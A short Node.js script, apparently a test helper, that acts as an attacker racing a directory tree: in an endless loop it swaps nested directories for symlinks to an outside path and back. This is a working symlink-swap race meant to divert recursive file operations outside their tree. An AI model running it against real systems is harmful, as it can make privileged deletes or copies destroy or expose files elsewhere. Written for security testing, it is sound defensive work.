// An attacker with the rights of the tree's owner: swaps a directory for a link to elsewhere and back, for ever.
import { mkdirSync, renameSync, symlinkSync, writeFileSync } from 'node:fs'

const [directory, outside] = process.argv.slice(2)
const paths = ['a', 'a/b', 'a/b/c'].map((name) => `${directory}/${name}`)
for (;;) {
  for (const path of paths) {
    attempt(() => mkdirSync(path))
    attempt(() => writeFileSync(`${path}/file`, 'x'))
    attempt(() => renameSync(path, `${path}.aside`))
    attempt(() => symlinkSync(outside, path))
    attempt(() => renameSync(`${path}.aside`, path))
  }
}

function attempt(act) {
  try {
    act()
  } catch {
    // Lost this race: the next one comes at once.
  }
}
